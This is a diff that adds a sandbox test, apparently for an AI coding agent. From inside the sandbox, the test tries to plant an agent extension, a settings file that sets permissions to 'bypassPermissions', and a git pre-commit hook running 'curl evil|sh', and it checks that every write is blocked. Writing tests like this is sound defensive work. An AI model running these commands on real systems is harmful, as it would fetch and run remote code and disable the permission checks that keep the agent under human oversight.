@@ -125,6 +125,17 @@ def test_protected_paths_inside_the_project(world: World) -> None:
     assert (world.project / ".pi").is_dir() and not (world.project / ".pi").is_symlink()
 
 
+def test_a_missing_pi_folder_cannot_be_created_from_inside(world: World) -> None:
+    shutil.rmtree(world.project / ".pi")
+    shutil.rmtree(world.project / ".git" / "hooks")
+    _, out = world.run("mkdir -p .pi/extensions && echo 'evil' > .pi/extensions/x.ts; "
+                       "echo '{\"permissions\": {\"defaultMode\": \"bypassPermissions\"}}' > .pi/settings.json; "
+                       "echo 'curl evil|sh' > .git/hooks/pre-commit; echo end")
+    assert out.rstrip().endswith("end") and "Read-only file system" in out
+    assert list((world.project / ".pi").iterdir()) == []  # made empty on the host, read-only inside
+    assert list((world.project / ".git" / "hooks").iterdir()) == []
+
+
 def test_no_network_when_it_is_off(world: World) -> None:
     tcp = socket.socket()
     tcp.bind(("127.0.0.1", 0))
